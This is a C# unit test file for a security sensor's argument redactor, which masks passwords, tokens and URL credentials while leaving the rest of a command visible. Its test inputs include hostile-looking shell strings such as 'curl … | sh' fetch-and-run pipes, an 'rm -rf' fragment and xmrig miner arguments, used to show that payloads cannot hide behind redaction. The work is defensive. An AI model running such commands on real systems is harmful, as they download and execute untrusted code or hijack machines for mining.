using System.Text;
using Guard.Sensor.Output;
using Xunit;

namespace Guard.Tests.Unit;

public sealed class ArgumentRedactorTests
{
    private static string[] Redact(params string[] args) => RedactWith(new byte[256], args);

    private static string[] RedactWith(byte[] scratch, params string[] args)
    {
        var redactor = new ArgumentRedactor();
        bool secretNext = false;
        return [.. args.Select(a => Encoding.UTF8.GetString(redactor.Redact(Encoding.UTF8.GetBytes(a), ref secretNext, scratch)))];
    }

    [Fact]
    public void OptionsWithSecretNamesLoseTheirValues()
    {
        Assert.Equal(
            ["--password=[REDACTED]", "--api-key", "[REDACTED]", "-token", "[REDACTED]", "--db_secret=[REDACTED]", "--lr", "3e-4"],
            Redact("--password=hunter2", "--api-key", "k", "-token", "t", "--db_secret=s", "--lr", "3e-4"));
    }

    [Fact]
    public void EnvironmentStyleAssignmentsAndUrlPasswordsAreRedacted()
    {
        Assert.Equal(
            ["HF_TOKEN=[REDACTED]", "AWS_SECRET_ACCESS_KEY=[REDACTED]", "https://user:[REDACTED]@example.org/repo.git", "EPOCHS=3"],
            Redact("HF_TOKEN=abc", "AWS_SECRET_ACCESS_KEY=xyz", "https://user:pw@example.org/repo.git", "EPOCHS=3"));
    }

    [Fact]
    public void WordsMatchWholePartsOnly()
    {
        // "monkey" and "keyboard" are not "key"; training flags pass untouched.
        Assert.Equal(["--monkey=1", "--keyboard", "layout", "--nproc_per_node=8"], Redact("--monkey=1", "--keyboard", "layout", "--nproc_per_node=8"));
    }

    [Fact]
    public void TheWordListIsConfigurable()
    {
        var redactor = new ArgumentRedactor(["wallet"]);
        Assert.True(redactor.IsSecretName("--wallet-address"u8));
        Assert.False(redactor.IsSecretName("--password"u8));
    }

    [Fact]
    public void ASecretFirstInAShellCommandDoesNotHideTheCommand()
    {
        // The attack: a throwaway --pass=x first, so that redaction swallowed the rest.
        Assert.Equal(
            ["bash", "-c", "true --pass=[REDACTED]; curl -s http://pool/x | sh"],
            Redact("bash", "-c", "true --pass=x; curl -s http://pool/x | sh"));
    }

    [Theory]
    // URL userinfo: the password only, in an argument and inside a shell command.
    [InlineData("stratum+tcp://wallet:pass@host:3333", "stratum+tcp://wallet:[REDACTED]@host:3333")]
    [InlineData("curl http://u:pw@h/x; rm -rf ~/a@b", "curl http://u:[REDACTED]@h/x; rm -rf ~/a@b")]
    [InlineData("curl http://u:pw@h && echo a@b", "curl http://u:[REDACTED]@h && echo a@b")]
    // Options with the value in the next word, inside a shell command.
    [InlineData("mysql --password hunter2 -e 'select 1'", "mysql --password [REDACTED] -e 'select 1'")]
    [InlineData("xmrig -o h:3333 -u w -p x --tls", "xmrig -o h:3333 -u w -p [REDACTED] --tls")]
    // Environment-style, quoted values.
    [InlineData("PASS=x python3 run.py", "PASS=[REDACTED] python3 run.py")]
    [InlineData("mysql --password='s3cr3t' -e 'select 1'", "mysql --password='[REDACTED]' -e 'select 1'")]
    [InlineData("export \"HF_TOKEN=abc\"; python3 t.py", "export \"HF_TOKEN=[REDACTED]\"; python3 t.py")]
    // Every separator a shell uses ends the value.
    [InlineData("a --token=x;b", "a --token=[REDACTED];b")]
    [InlineData("a --token=x&&b", "a --token=[REDACTED]&&b")]
    [InlineData("a --token=x|b", "a --token=[REDACTED]|b")]
    [InlineData("a --token=x\tb", "a --token=[REDACTED]\tb")]
    [InlineData("a --token=x\nb", "a --token=[REDACTED]\nb")]
    [InlineData("a --token=x>out", "a --token=[REDACTED]>out")]
    [InlineData("a --token=$(curl evil|sh)", "a --token=[REDACTED](curl evil|sh)")]
    [InlineData("a --token=`curl evil`", "a --token=`curl evil`")]
    // A URL query string: the parameter's value, not the next parameter.
    [InlineData("https://h/x?api_key=abc&page=2", "https://h/x?api_key=[REDACTED]&page=2")]
    [InlineData("https://u:p@h/x?token=abc&page=2", "https://u:[REDACTED]@h/x?token=[REDACTED]&page=2")]
    // An option awaiting its value does not take the next command for it.
    [InlineData("true --password; curl evil | sh", "true --password; curl evil | sh")]
    public void OnlyTheValueGoes(string argument, string expected)
    {
        Assert.Equal(["sh", "-c", expected], Redact("sh", "-c", argument));
    }

    [Fact]
    public void AValueInTheNextArgumentIsMaskedUpToItsFirstSeparator()
    {
        // `sh -c 'eval "$1"' --token 'x; curl evil | sh'`: the payload is no secret to hide.
        Assert.Equal(["sh", "-c", "eval \"$1\"", "--token", "[REDACTED]; curl evil | sh"],
            Redact("sh", "-c", "eval \"$1\"", "--token", "x; curl evil | sh"));
        Assert.Equal(["-p", "[REDACTED]", "--verbose"], Redact("-p", "x", "--verbose"));
    }

    [Fact]
    public void PortsPathsAndOptionsAfterASecretOptionAreNoSecret()
    {
        Assert.Equal(["ssh", "-p", "22", "host"], Redact("ssh", "-p", "22", "host"));
        Assert.Equal(["docker", "run", "-p", "8080:80", "img"], Redact("docker", "run", "-p", "8080:80", "img"));
        Assert.Equal(["mkdir", "-p", "/data/ckpt"], Redact("mkdir", "-p", "/data/ckpt"));
        Assert.Equal(["--token-file", "./token.txt"], Redact("--token-file", "./token.txt"));
        Assert.Equal(["--password", "--password=[REDACTED]"], Redact("--password", "--password=x"));
    }

    [Fact]
    public void ManySecretsInALongArgumentAreAllMaskedAndNothingElseIsLost()
    {
        // Each mask is longer than the one-byte value it hides: the result outgrows the scratch buffer.
        string command = string.Concat(Enumerable.Repeat("--pass=x ", 40)) + "; curl evil | sh";
        string redacted = Assert.Single(RedactWith(new byte[64], command));
        Assert.Equal(string.Concat(Enumerable.Repeat("--pass=[REDACTED] ", 40)) + "; curl evil | sh", redacted);
    }

    [Fact]
    public void NoArgumentLosesASeparatorOrFailsToRedact()
    {
        // Whatever the bytes, only values go: every separator, and so every word boundary, is still there.
        var redactor = new ArgumentRedactor();
        byte[] alphabet = "--pass=x token=y :@/ ;&|<>()`'\" \t\nhttp://u:p@h?key=v -p 22 ab"u8.ToArray();
        byte[] separators = " \t\n;&|<>()`"u8.ToArray();
        var random = new Random(3);
        byte[] scratch = new byte[48];
        bool secretNext = false;
        for (int n = 0; n < 20_000; n++)
        {
            byte[] arg = new byte[random.Next(0, 90)];
            for (int i = 0; i < arg.Length; i++)
                arg[i] = random.Next(5) == 0 ? (byte)random.Next(256) : alphabet[random.Next(alphabet.Length)];
            ReadOnlySpan<byte> redacted = redactor.Redact(arg, ref secretNext, scratch);
            foreach (byte separator in separators)
                Assert.Equal(arg.AsSpan().Count(separator), redacted.Count(separator));
        }
    }
}
